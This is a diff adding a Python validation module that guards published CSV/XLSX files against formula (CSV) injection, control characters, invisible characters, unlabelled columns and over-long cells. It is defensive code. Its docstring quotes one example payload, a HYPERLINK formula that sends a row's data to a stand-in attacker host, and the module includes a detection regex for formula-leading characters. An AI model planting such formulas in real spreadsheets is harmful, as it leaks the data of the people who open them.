@@ -1,0 +1,202 @@
+"""The cell guard: values that would attack or fool the people who open the published files.
+
+- Formula injection (OWASP "CSV Injection"): a text value starting with `=`, `+`, `-`, `@`
+  (or their full-width forms ＝ ＋ － ＠, which spreadsheets in East Asian locales accept),
+  or with a tab, carriage return or line feed, is run as a formula when an analyst opens
+  the CSV in Excel or LibreOffice (`=HYPERLINK("http://evil.example/?d="&A2,"คลิก")` sends
+  the row away). Not formulas, and left alone: a plain number (`-5`, `+3.5`, `-1,234.50`,
+  which a spreadsheet reads as that number) and a lone `-` (how officers key "no data").
+  Every other such value in a text field is an error naming the cell, unless the field says
+  otherwise in fields.yaml with `formulas:` — `refuse` (the default), `escape` (published
+  with a leading apostrophe, OWASP's advice, and a warning per cell: the value changes, so
+  the officer is told), or `allow` (the field really holds formulas; nothing is checked).
+  Integer, number and date fields are typed: a formula there fails validation already.
+- Control characters (NUL, ESC, DEL, C1 …; Unicode category Cc except tab, line feed and
+  carriage return) are not text: an error naming the cell. Invisible formatting characters
+  (category Cf and friends, listed in `pipeline/thai.py`) are removed by cleaning; each cell
+  that held one other than the zero-width spaces of ordinary Thai typing gets a warning.
+- A cell under no header is not read: a warning names the column and its first cell.
+- A value longer than an Excel cell holds (32,767 characters) would be cut in entries.xlsx:
+  a warning, and the XLSX copy is not written (`publish.stage`); CSV and JSON keep it whole.
+
+Every check is an Arrow kernel over a whole column; Python only visits the cells it flags.
+"""
+
+from __future__ import annotations
+
+import re
+
+import numpy as np
+import pandas as pd
+import pyarrow as pa
+import pyarrow.compute as pc
+
+from pipeline.columns import arrow_text
+from pipeline.errors import ConfigError
+from pipeline.headers import MappedSheet
+from pipeline.issues import Issue, column_letter, printable
+from pipeline.normalize import NormalizedTable
+from pipeline.publish import XLSX_CELL_LIMIT
+from pipeline.read import SheetGrid
+from pipeline.thai import CONTROL, FORMATTING
+
+FORMULA_START = "^[=+\\-@\uff1d\uff0b\uff0d\uff20\\t\\r\\n]"
+NOT_A_FORMULA = "^[+\\-]?(?:[0-9][0-9,]*(?:\\.[0-9]+)?|\\.[0-9]+)(?:[eE][+\\-]?[0-9]+)?$|^-$"
+POLICIES = ("refuse", "escape", "allow")
+SUSPECT = f"{CONTROL}|[{FORMATTING}]"
+_FORMATTING = re.compile(f"[{FORMATTING}]")
+
+
+def _rows(mask: pa.Array | pa.ChunkedArray) -> np.ndarray:
+    array = mask.to_numpy(zero_copy_only=False) if isinstance(mask, pa.Array) else mask.to_numpy()
+    return np.flatnonzero(array)
+
+
+def hidden_characters(sheet: MappedSheet) -> list[Issue]:
+    """Control characters (errors) and invisible formatting characters (warnings) in the
+    mapped cells of one sheet, before cleaning removes the latter."""
+    issues = []
+    where = {"file": sheet.file, "sheet": sheet.sheet}
+    for name in sheet.data.columns:
+        text = arrow_text(sheet.data[name])
+        rows = _rows(pc.match_substring_regex(text, SUSPECT))
+        if not len(rows):
+            continue
+        control = re.compile(CONTROL)
+        for row, value in zip(rows.tolist(), text.take(pa.array(rows)).to_pylist(), strict=True):
+            cell = sheet.cell(name, int(sheet.row_numbers[row]))
+            found = control.search(value)
+            if found:
+                issues.append(
+                    Issue(
+                        "error",
+                        "control-character",
+                        f"holds the control character U+{ord(found.group()):04X}, which is not text; "
+                        "delete it from the cell",
+                        cell=cell,
+                        field=name,
+                        value=printable(value),
+                        rule="text only",
+                        **where,
+                    )
+                )
+            else:
+                codes = sorted({f"U+{ord(c):04X}" for c in value if _FORMATTING.match(c)})
+                issues.append(
+                    Issue(
+                        "warning",
+                        "invisible-character",
+                        f"invisible formatting character(s) {', '.join(codes)} removed",
+                        cell=cell,
+                        field=name,
+                        value=printable(value),
+                        **where,
+                    )
+                )
+    return issues
+
+
+def unlabelled_cells(grid: SheetGrid, sheet: MappedSheet) -> list[Issue]:
+    """A warning for each column holding values below the header row but no label in it:
+    those cells are not read (a CSV record with a spare field lands there too)."""
+    header = np.flatnonzero(grid.row_numbers == sheet.header_row)
+    if not len(header):
+        return []
+    pos = int(header[0])
+    issues = []
+    for col in grid.cells.columns:
+        label = grid.cells.iat[pos, grid.cells.columns.get_loc(col)]
+        if isinstance(label, str) and label.strip():
+            continue
+        body = arrow_text(grid.cells[col].iloc[pos + 1 :].reset_index(drop=True))
+        rows = _rows(pc.invert(pc.match_substring_regex(body, "^[\\s\u00a0\u200b\u3000]*$")))
+        if not len(rows):
+            continue
+        first = f"{column_letter(int(col))}{int(grid.row_numbers[pos + 1 + rows[0]])}"
+        issues.append(
+            Issue(
+                "warning",
+                "unlabelled-cells",
+                f"{len(rows):,} value(s) in column {column_letter(int(col))} under no header are not read "
+                f"(first: {first}); give the column a header from fields.yaml, or delete the values",
+                file=grid.file,
+                sheet=grid.sheet,
+                cell=first,
+            )
+        )
+    return issues
+
+
+def check_values(table: NormalizedTable) -> list[Issue]:
+    """Formula-like text (per each field's `formulas` policy) and cells too long for XLSX, in
+    the values about to be published. `escape` changes `table.values` in place."""
+    issues: list[Issue] = []
+    for f in table.spec.fields:
+        if f.formulas not in POLICIES:
+            raise ConfigError(
+                f"{table.spec.name}: field {f.name}: formulas: {f.formulas!r} is not one of {', '.join(POLICIES)}"
+            )
+        if f.type != "string":
+            continue
+        text = arrow_text(table.values[f.name])
+        long_rows = _rows(pc.greater(pc.utf8_length(text), XLSX_CELL_LIMIT))
+        for row in long_rows.tolist():
+            issues.append(
+                Issue(
+                    "warning",
+                    "cell-too-long",
+                    f"{len(table.values[f.name].iat[row]):,} characters, more than an Excel cell holds "
+                    f"({XLSX_CELL_LIMIT:,}): the Excel copy is not published; the CSV and JSON hold the whole value",
+                    cell=table.cell(f.name, row),
+                    field=f.name,
+                    **table.where(row),
+                )
+            )
+        if f.formulas == "allow":
+            continue
+        risky = pc.and_(
+            pc.match_substring_regex(text, FORMULA_START), pc.invert(pc.match_substring_regex(text, NOT_A_FORMULA))
+        )
+        rows = _rows(risky)
+        if not len(rows):
+            continue
+        values = text.take(pa.array(rows)).to_pylist()
+        cells = table.cells(f.name, rows)
+        places = table.places(rows)
+        for value, cell, (file, sheet) in zip(values, cells, places, strict=True):
+            first = printable(value[:1])
+            if f.formulas == "refuse":
+                issues.append(
+                    Issue(
+                        "error",
+                        "formula-injection",
+                        f"starts with {first!r}: a spreadsheet opening the published file would run it as a formula "
+                        f"(CSV injection); remove the leading {first!r}, or set `formulas: escape` for {f.name} "
+                        "in fields.yaml",
+                        file=file,
+                        sheet=sheet,
+                        cell=cell,
+                        field=f.name,
+                        value=printable(value),
+                        rule="no formula",
+                    )
+                )
+            else:
+                issues.append(
+                    Issue(
+                        "warning",
+                        "formula-escaped",
+                        f"starts with {first!r}: published with a leading apostrophe (') so that spreadsheets "
+                        "show it as text, not run it",
+                        file=file,
+                        sheet=sheet,
+                        cell=cell,
+                        field=f.name,
+                        value=printable(value),
+                    )
+                )
+        if f.formulas == "escape":
+            column = table.values[f.name].copy()
+            column.iloc[rows] = ["'" + v for v in values]
+            table.values[f.name] = pd.Series(column, dtype="str")
+    return issues
